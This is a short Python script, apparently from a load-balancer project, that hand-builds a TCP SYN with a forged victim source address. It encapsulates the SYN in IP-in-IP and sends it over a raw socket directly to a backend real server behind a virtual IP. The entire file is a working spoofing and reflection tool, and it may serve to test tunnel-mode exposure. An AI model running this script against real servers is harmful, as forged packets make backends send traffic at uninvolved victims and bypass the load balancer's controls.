# Copyright (c) 2026 The mixed_lb.stack authors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Sends one SYN in IP-in-IP to a real server, from this host, with a victim's address inside: ``forge.py RIP VICTIM VIP PORT``."""

from __future__ import annotations

import socket
import struct
import sys

rip, victim, vip, port = sys.argv[1:]


def checksum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


addresses = socket.inet_aton(victim) + socket.inet_aton(vip)
tcp = struct.pack("!HHIIBBHHH", 4444, int(port), 1, 0, 5 << 4, 2, 64240, 0, 0)
pseudo = addresses + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 1, 0, 64, socket.IPPROTO_TCP, 0)
inner = head[:10] + struct.pack("!H", checksum(head + addresses)) + addresses
with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_IPIP) as sock:
    sock.sendto(inner + tcp, (rip, 0))
